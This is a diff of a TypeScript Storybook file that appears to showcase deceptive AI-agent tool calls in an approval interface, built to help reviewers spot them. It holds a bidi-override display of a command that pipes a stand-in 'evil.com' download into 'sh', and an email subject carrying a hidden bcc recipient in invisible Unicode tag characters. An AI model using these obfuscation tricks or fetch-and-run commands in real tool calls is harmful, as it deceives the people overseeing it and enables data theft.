@@ -19,7 +19,7 @@ const address = (text: string) => ({ toolName: 'open_page', args: { url: text } 
 const exhibits = {
   reversedText: {
     tries:
-      'Makes the end of a command read from right to left, so that it looks like another one. What runs is what the card shows.',
+      'Makes a part of the address read from right to left, so that it looks like another than the one that would be called.',
     call: command(attacks.T01_bidi_override),
     shows: [
       '⟦U+202E RLO⟧⟦U+2066 LRI⟧moc.live⟦U+2069 PDI⟧/data | sh',
@@ -35,7 +35,7 @@ const exhibits = {
     tries: 'Carries a second recipient in letters that no screen draws.',
     call: {
       toolName: 'send_email',
-      args: { to: 'ada@example.com', subject: attacks.T04_tag_smuggling },
+      args: { to: 'team@example.test', subject: attacks.T04_tag_smuggling },
     },
     shows: ['⟦hidden text: bcc:a@e.io⟧', 'Hidden text in “subject”: bcc:a@e.io'],
   },
@@ -340,7 +340,7 @@ export const Benign: Story = {
   },
 };
 
-/** More than fits: Deny at once, Approve only once all of it was opened. */
+/** More than fits, also in a call that its host calls routine: Deny at once, Approve only once all of it was opened. */
 export const TooMuchToSee: Story = {
   args: {
     batch: batchOf('batch-too-much', {
